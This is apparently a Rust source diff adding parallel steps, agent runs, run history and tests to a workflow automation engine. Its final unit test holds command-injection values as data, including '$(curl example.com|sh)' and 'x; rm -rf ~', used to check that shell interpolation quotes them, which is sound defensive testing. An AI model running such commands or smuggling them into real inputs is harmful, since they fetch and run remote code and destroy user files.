+        Ok(Some(serde_json::json!({ "steps": results })))
+    }
+
+    /// Run one step of a `parallel` block on its own copy of the context,
+    /// applying its error strategy. Returns the step's position, what it did,
+    /// and the variables it set.
+    async fn execute_step(
+        &self,
+        index: usize,
+        id: String,
+        step: &ParallelStep,
+        mut ctx: ExecutionContext,
+    ) -> (usize, StepResult, HashMap<String, serde_json::Value>) {
+        let before = ctx.variables.clone();
+        let start = std::time::Instant::now();
+        let mut outcome = self.execute_action(&step.action, &mut ctx).await;
+        let mut status = StepStatus::Completed;
+        if outcome.is_err() {
+            status = match &step.on_error {
+                ErrorStrategy::Stop => StepStatus::Failed,
+                ErrorStrategy::Continue => StepStatus::Tolerated,
+                ErrorStrategy::Retry {
+                    max_attempts,
+                    delay_seconds,
+                } => {
+                    for _ in 0..*max_attempts {
+                        tokio::time::sleep(tokio::time::Duration::from_secs(*delay_seconds)).await;
+                        outcome = self.execute_action(&step.action, &mut ctx).await;
+                        if outcome.is_ok() {
+                            break;
+                        }
+                    }
+                    if outcome.is_ok() {
+                        StepStatus::Completed
+                    } else {
+                        StepStatus::Failed
+                    }
+                }
+                ErrorStrategy::Fallback { actions } => {
+                    for fallback in actions {
+                        self.execute_action(fallback, &mut ctx).await.ok();
+                    }
+                    StepStatus::Tolerated
+                }
+            };
+        }
+
+        let (data, error) = match outcome {
+            Ok(data) => (data, None),
+            Err(e) => (None, Some(e.to_string())),
+        };
+        let variables = ctx
+            .variables
+            .into_iter()
+            .filter(|(name, value)| before.get(name) != Some(value))
+            .collect();
+        let result = StepResult {
+            id,
+            status,
+            data,
+            error,
+            duration_ms: start.elapsed().as_millis() as u64,
+        };
+        (index, result, variables)
+    }
+
     async fn record_run(&self, run: WorkflowRun) {
+        self.store_history(|conn, _| history::save_run(conn, &run));
         let mut runs = self.runs.write().await;
         runs.push(run);
 
@@ -1002,6 +1731,10 @@ impl AutomationEngine {
             run.ended_at = Some(Utc::now());
             run.error = error;
             run.results = results;
+            self.store_history(|conn, retention| {
+                history::save_run(conn, run)?;
+                history::prune_runs(conn, retention, Utc::now()).map(|_| ())
+            });
         }
     }
 
@@ -1013,7 +1746,8 @@ impl AutomationEngine {
         }
     }
 
-    /// Get run history
+    /// Runs since the engine started, newest first; earlier ones are in the
+    /// history database
     pub async fn get_runs(&self, workflow_id: Option<&str>, limit: usize) -> Vec<WorkflowRun> {
         let runs = self.runs.read().await;
         runs.iter()
@@ -1035,13 +1769,121 @@ impl AutomationEngine {
     }
 }
 
+/// Run `agent` on `prompt` on a thread of its own, since agent runs block
+/// on their own runtime, and save the transcript when asked
+async fn run_agent(
+    ctx: &ExecutionContext,
+    agent: &str,
+    prompt: &str,
+    model: Option<String>,
+    save: bool,
+) -> Result<serde_json::Value> {
+    use crate::commands::{load_agent, run_agent_with_events, save_transcripts};
+
+    let (tx, rx) = tokio::sync::oneshot::channel();
+    let (name, prompt, title) = (
+        agent.to_string(),
+        prompt.to_string(),
+        ctx.workflow_id.clone(),
+    );
+    std::thread::spawn(move || {
+        let run = || -> Result<serde_json::Value> {
+            let agent = load_agent(&name, model.as_deref())?;
+            let result = run_agent_with_events(
+                agent,
+                &prompt,
+                &mut |event| log::debug!("{} {}: {}", name, event.event_type, event.data),
+                &|| false,
+            )?;
+            if !result.success {
+                return Err(anyhow!(result
+                    .error
+                    .unwrap_or_else(|| "the agent gave up".to_string())));
+            }
+            let session_id = if save {
+                save_transcripts(&title, std::slice::from_ref(&result))?.pop()
+            } else {
+                None
+            };
+            Ok(serde_json::json!({
+                "agent": name,
+                "response": result.response,
+                "tokens": result.token_usage.total_tokens,
+                "duration_ms": result.duration_ms,
+                "session_id": session_id,
+            }))
+        };
+        let _ = tx.send(run());
+    });
+    rx.await
+        .map_err(|_| anyhow!("Agent {} stopped without a result", agent))?
+}
+
+/// Tell `channel`, or else every channel subscribed to
+/// `automation.agent_failed`, that an agent run failed
+async fn report_agent_failure(
+    ctx: &ExecutionContext,
+    agent: &str,
+    error: &anyhow::Error,
+    channel: Option<&NotificationChannel>,
+) {
+    let notification = Notification::new(
+        "automation.agent_failed",
+        format!("{}: agent {} failed", ctx.workflow_id, agent),
+        format!("{:#}", error),
+    )
+    .with_level(notifications::NotificationLevel::Error)
+    .with_field("workflow_id", ctx.workflow_id.clone())
+    .with_field("run_id", ctx.run_id.clone())
+    .with_field("agent", agent);
+    let channel = channel.map(|c| c.to_channel()).transpose();
+
+    // Providers use blocking HTTP and processes
+    let failures = tokio::task::spawn_blocking(move || match channel {
+        Ok(Some(channel)) => notifications::registry()
+            .send(&channel, &notification)
+            .err()
+            .map(|e| vec![(channel.name.clone(), e)])
+            .unwrap_or_default(),
+        Ok(None) => notifications::dispatch(&notification),
+        Err(e) => vec![("notify".to_string(), e)],
+    })
+    .await
+    .unwrap_or_default();
+    for (channel, e) in failures {
+        log::warn!(
+            "Could not notify {} of the failed agent run: {}",
+            channel,
+            e
+        );
+    }
+}
+
+/// Hand a blocking watcher's events to async code
+fn forward_events<E: Send + 'static>(
+    watcher: impl Iterator<Item = E> + Send + 'static,
+) -> tokio::sync::mpsc::UnboundedReceiver<E> {
+    let (tx, rx) = tokio::sync::mpsc::unbounded_channel();
+    tokio::task::spawn_blocking(move || {
+        for event in watcher {
+            if tx.send(event).is_err() {
+                break;
+            }
+        }
+    });
+    rx
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
 
     #[tokio::test]
     async fn test_automation_engine() {
-        let engine = AutomationEngine::new(100);
+        let dir = tempfile::tempdir().unwrap();
+        let db = dir.path().join("history.db");
+        let engine =
+            AutomationEngine::new(100).with_history_db(db.clone(), RunRetention::default());
 
         let workflow = Workflow {
             id: "test-workflow".to_string(),
@@ -1066,6 +1908,361 @@ mod tests {
 
         let run = engine.get_run(&run_id).await.unwrap();
         assert_eq!(run.status, RunStatus::Completed);
+
+        // The run outlives the engine
+        drop(engine);
+        let conn = history::open_history(&db).unwrap();
+        assert!(history::load_workflow(&conn, "test-workflow")
+            .unwrap()
+            .is_some());
+        let runs = history::load_runs(&conn, Some("test-workflow"), None).unwrap();
+        assert_eq!(runs.len(), 1);
+        assert_eq!(runs[0].id, run_id);
+        assert_eq!(runs[0].status, RunStatus::Completed);
+        assert_eq!(runs[0].results.len(), 1);
+    }
+
+    #[tokio::test]
+    async fn test_file_change_trigger() {
+        let engine = AutomationEngine::new(100);
+
+        let workflow = Workflow {
+            id: "on-session-write".to_string(),
+            name: "On Session Write".to_string(),
+            description: None,
+            enabled: true,
+            triggers: vec![Trigger::FileChange {
+                pattern: "**/chatSessions/*.json".to_string(),
+                events: vec![FileChangeEvent::Modified],
+            }],
+            conditions: vec![],
+            actions: vec![Action::Log {
+                level: LogLevel::Info,
+                message: "Session changed".to_string(),
+            }],
+            on_error: ErrorStrategy::Stop,
+            created_at: Utc::now(),
+            updated_at: Utc::now(),
+            last_run: None,
+            run_count: 0,
+        };
+        engine.register(workflow).await.unwrap();
+
+        let event = |kind, path: &str| SessionEvent {
+            kind,
+            path: std::path::PathBuf::from(path),
+            session_id: "s1".to_string(),
+            workspace_hash: Some("abc".to_string()),
+        };
+
+        let results = engine
+            .handle_session_event(&event(
+                SessionEventKind::Modified,
+                "/ws/abc/chatSessions/s1.json",
+            ))
+            .await;
+        assert_eq!(results.len(), 1);
+        let run = engine
+            .get_run(results[0].as_ref().unwrap())
+            .await
+            .unwrap();
+        assert_eq!(run.trigger, "file_change");
+
+        // Wrong change type and non-matching path do not fire
+        assert!(engine
+            .handle_session_event(&event(
+                SessionEventKind::Created,
+                "/ws/abc/chatSessions/s1.json",
+            ))
+            .await
+            .is_empty());
+        assert!(engine
+            .handle_session_event(&event(
+                SessionEventKind::Modified,
+                "/ws/abc/chatSessions/s1.jsonl",
+            ))
+            .await
+            .is_empty());
+
+        // Absolute patterns match watched paths, not session files
+        let notes: Workflow = serde_json::from_value(serde_json::json!({
+            "id": "on-notes",
+            "triggers": [{ "type": "file_change", "pattern": "/notes/**/*.md", "events": [] }],
+            "actions": [{ "type": "log", "level": "info", "message": "Notes changed" }]
+        }))
+        .unwrap();
+        assert_eq!(
+            notes.triggers[0].watched_path(),
+            Some((std::path::PathBuf::from("/notes"), true))
+        );
+        engine.register(notes).await.unwrap();
+        let file_event = |path: &str| FileEvent {
+            kind: SessionEventKind::Created,
+            path: std::path::PathBuf::from(path),
+        };
+        let results = engine.handle_file_event(&file_event("/notes/a/b.md")).await;
+        assert_eq!(results.len(), 1);
+        assert!(engine
+            .handle_session_event(&event(SessionEventKind::Created, "/notes/a/b.md"))
+            .await
+            .is_empty());
+        assert!(engine
+            .handle_file_event(&file_event("/ws/abc/chatSessions/s1.json"))
+            .await
+            .is_empty());
+
+        let trigger = |pattern: &str| Trigger::FileChange {
+            pattern: pattern.to_string(),
+            events: vec![],
+        };
+        let config = trigger("/home/me/.config/csm/config.toml");
+        assert_eq!(
+            config.watched_path(),
+            Some((std::path::PathBuf::from("/home/me/.config/csm"), false))
+        );
+        assert_eq!(
+            trigger("/notes/*.md").watched_path(),
+            Some((std::path::PathBuf::from("/notes"), false))
+        );
+        assert!(trigger("**/chatSessions/*.json").watched_path().is_none());
+        let roots = watched_paths(&[Workflow {
+            triggers: vec![trigger("/notes/*.md"), trigger("/notes/**/*.txt")],
+            ..serde_json::from_value(serde_json::json!({
+                "triggers": [], "actions": []
+            }))
+            .unwrap()
+        }]);
+        assert_eq!(roots, [(std::path::PathBuf::from("/notes"), true)]);
+    }
+
+    #[test]
+    fn test_inline_notification_channel() {
+        let channel = NotificationChannel::Slack {
+            webhook_url: "https://hooks.slack.invalid/x".to_string(),
+        }
+        .to_channel()
+        .unwrap();
+        assert_eq!(channel.config.provider, "slack");
+        assert_eq!(
+            channel.setting("url").as_deref(),
+            Some("https://hooks.slack.invalid/x")
+        );
+        assert!(notifications::registry().validate(&channel).is_ok());
+    }
+
+    #[test]
+    fn test_backup_action_format() {
+        let action: Action =
+            serde_json::from_str(r#"{"type": "backup", "destination": "s3://bucket/chasm"}"#)
+                .unwrap();
+        assert!(matches!(
+            action,
+            Action::Backup { destination: Some(ref d) } if d == "s3://bucket/chasm"
+        ));
+        let action: Action = serde_json::from_str(r#"{"type": "backup"}"#).unwrap();
+        assert!(matches!(action, Action::Backup { destination: None }));
+    }
+
+    #[test]
+    fn test_send_digest_action_format() {
+        let action: Action =
+            serde_json::from_str(r#"{"type": "send_digest", "to": ["me@example.com"]}"#).unwrap();
+        assert!(matches!(
+            action,
+            Action::SendDigest { ref to, days: None } if to == &["me@example.com"]
+        ));
+    }
+
+    #[test]
+    fn test_create_issue_action_format() {
+        let action: Action = serde_json::from_str(
+            r#"{"type": "create_issue", "filter": {"provider": "copilot"}, "tracker": "linear"}"#,
+        )
+        .unwrap();
+        match action {
+            Action::CreateIssue {
+                filter,
+                tracker,
+                project,
+                action_items,
+            } => {
+                assert_eq!(filter.provider.as_deref(), Some("copilot"));
+                assert_eq!(tracker.as_deref(), Some("linear"));
+                assert!(project.is_none());
+                assert!(!action_items);
+            }
+            other => panic!("unexpected action: {:?}", other),
+        }
+    }
+
+    #[test]
+    fn test_timed_triggers() {
+        let after = Utc::now();
+        let every = Trigger::Interval { seconds: 90 };
+        assert_eq!(every.next_fire(after), Some(after + Duration::seconds(90)));
+
+        let morning = NaiveTime::from_hms_opt(7, 30, 0).unwrap();
+        let daily = Trigger::TimeOfDay {
+            time: morning,
+            days: None,
+        };
+        let next = daily.next_fire(after).unwrap();
+        assert!(next > after && next <= after + Duration::days(1));
+        let tz = crate::datetime::display_timezone();
+        assert_eq!(tz.convert(next).time(), morning);
+
+        let day = tz.date_of(after).weekday().succ().succ();
+        let weekly = Trigger::TimeOfDay {
+            time: morning,
+            days: Some(vec![day]),
+        };
+        let next = weekly.next_fire(after).unwrap();
+        assert_eq!(tz.date_of(next).weekday(), day);
+        assert!(Trigger::Manual.next_fire(after).is_none());
+    }
+
+    #[tokio::test]
+    async fn test_schedule_survives_restart() {
+        let workflow: Workflow = serde_json::from_value(serde_json::json!({
+            "id": "new-year",
+            "triggers": [{ "type": "schedule", "cron": "0 0 1 1 *", "timezone": "utc" }],
+            "actions": [{ "type": "log", "level": "info", "message": "Happy new year" }]
+        }))
+        .unwrap();
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("schedule.json");
+
+        // Due while the scheduler was stopped: runs once on start
+        let missed = Utc::now() - Duration::days(3);
+        let mut state = schedule::ScheduleState::default();
+        state.set(&workflow, Some(missed), None);
+        state.save(&path).unwrap();
+
+        let engine = AutomationEngine::new(100).with_schedule_file(path.clone());
+        engine.register(workflow.clone()).await.unwrap();
+        let _ = tokio::time::timeout(
+            std::time::Duration::from_millis(200),
+            engine.run_scheduled_triggers(),
+        )
+        .await;
+        let runs = engine.get_runs(None, 10).await;
+        assert_eq!(runs.len(), 1);
+        assert_eq!(runs[0].trigger, "schedule");
+
+        let saved = schedule::ScheduleState::load(&path).unwrap();
+        let next = saved.saved_run(&workflow).unwrap();
+        assert_eq!(next, workflow.next_fire(Utc::now()).unwrap());
+        assert!(saved.workflows["new-year"].last_run.is_some());
+
+        // Changed triggers are scheduled afresh
+        let mut changed = workflow.clone();
+        changed.triggers = vec![Trigger::Interval { seconds: 60 }];
+        assert!(saved.saved_run(&changed).is_none());
+
+        let mut invalid = workflow;
+        invalid.triggers = vec![Trigger::Schedule {
+            cron: "0 25 * * *".to_string(),
+            timezone: None,
+        }];
+        assert!(engine.register(invalid).await.is_err());
+    }
+
+    #[tokio::test]
+    async fn test_agent_action() {
+        // Hand-written workflows need only triggers and actions
+        let workflow: Workflow = serde_json::from_value(serde_json::json!({
+            "id": "morning-summary",
+            "triggers": [{ "type": "time_of_day", "time": "07:30:00", "days": null }],
+            "actions": [{
+                "type": "agent",
+                "agent": "no-such-agent",
+                "prompt": "Summarize the sessions from {{yesterday}}",
+                "notify": { "type": "webhook", "url": "http://127.0.0.1:9/hook" }
+            }]
+        }))
+        .unwrap();
+        assert!(workflow.enabled);
+        assert!(matches!(
+            &workflow.actions[0],
+            Action::Agent {
+                save: true,
+                model: None,
+                ..
+            }
+        ));
+
+        let engine = AutomationEngine::new(10);
+        engine.register(workflow).await.unwrap();
+        let run_id = engine.trigger("morning-summary", None).await.unwrap();
+        let run = engine.get_run(&run_id).await.unwrap();
+        assert_eq!(run.status, RunStatus::Failed);
+        assert!(run.error.unwrap().contains("no-such-agent"));
+    }
+
+    #[tokio::test]
+    async fn test_parallel_action() {
+        let engine = AutomationEngine::new(10);
+        // A nested block with an unknown dependency always fails
+        let failing = serde_json::json!({
+            "type": "parallel",
+            "actions": [{ "type": "delay", "seconds": 0, "depends_on": ["missing"] }]
+        });
+        let step = |id: &str, on_error: &str| {
+            let mut step = failing.clone();
+            step["id"] = serde_json::json!(id);
+            step["on_error"] = serde_json::json!(on_error);
+            step
+        };
+        let block = |steps: serde_json::Value| -> Action {
+            serde_json::from_value(serde_json::json!({ "type": "parallel", "actions": steps }))
+                .unwrap()
+        };
+
+        let action = block(serde_json::json!([
+            { "id": "a", "type": "delay", "seconds": 1 },
+            { "id": "b", "type": "delay", "seconds": 1 },
+            { "id": "set", "type": "set_variable", "name": "x", "value": "from-a",
+              "depends_on": ["a"] },
+            { "id": "check", "type": "if",
+              "condition": { "type": "matches", "value": "{{x}}", "pattern": "^from-a$" },
+              "then": [{ "type": "set_variable", "name": "seen", "value": true }],
+              "else_": null,
+              "depends_on": ["set"] },
+            step("bad", "continue")
+        ]));
+        let mut ctx = ExecutionContext::new("test".to_string(), None);
+        let start = std::time::Instant::now();
+        let data = engine
+            .execute_action(&action, &mut ctx)
+            .await
+            .unwrap()
+            .unwrap();
+        assert!(start.elapsed() < std::time::Duration::from_millis(1900));
+        let steps: Vec<StepResult> = serde_json::from_value(data["steps"].clone()).unwrap();
+        let statuses: Vec<(&str, StepStatus)> =
+            steps.iter().map(|s| (s.id.as_str(), s.status)).collect();
+        assert_eq!(
+            statuses,
+            [
+                ("a", StepStatus::Completed),
+                ("b", StepStatus::Completed),
+                ("set", StepStatus::Completed),
+                ("check", StepStatus::Completed),
+                ("bad", StepStatus::Tolerated),
+            ]
+        );
+        assert_eq!(ctx.get_var("seen"), Some(&serde_json::json!(true)));
+
+        // A failed step stops the block and skips what has not started
+        let action = block(serde_json::json!([
+            step("bad", "stop"),
+            { "id": "after", "type": "set_variable", "name": "after", "value": 1,
+              "depends_on": ["bad"] }
+        ]));
+        let mut ctx = ExecutionContext::new("test".to_string(), None);
+        let err = engine.execute_action(&action, &mut ctx).await.unwrap_err();
+        assert!(err.to_string().starts_with("Step 'bad' failed"), "{}", err);
+        assert!(ctx.get_var("after").is_none());
     }
 
     #[test]
@@ -1075,5 +2272,31 @@ mod tests {
 
         let result = ctx.interpolate("Hello, {{name}}!");
         assert_eq!(result, "Hello, World!");
+
+        let event = serde_json::json!({ "path": "/tmp/a.json", "kind": "modified", "extra": {} });
+        let ctx = ExecutionContext::new("test".to_string(), Some(event));
+        assert_eq!(
+            ctx.interpolate("{{event.kind}} {{event.path}} {{event.extra}}"),
+            "modified /tmp/a.json {{event.extra}}"
+        );
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_shell_interpolation_quotes_values() {
+        let event = serde_json::json!({
+            "path": "$(curl example.com|sh)'{{event.kind}}'.json",
+            "kind": "x; rm -rf ~",
+        });
+        let ctx = ExecutionContext::new("test".to_string(), Some(event));
+        assert_eq!(
+            ctx.interpolate_shell("cat {{event.path}} {{missing}}")
+                .unwrap(),
+            r"cat '$(curl example.com|sh)'\''{{event.kind}}'\''.json' {{missing}}"
+        );
+        assert_eq!(
+            ctx.interpolate_shell("echo {{event.kind}}").unwrap(),
+            "echo 'x; rm -rf ~'"
+        );
     }
 }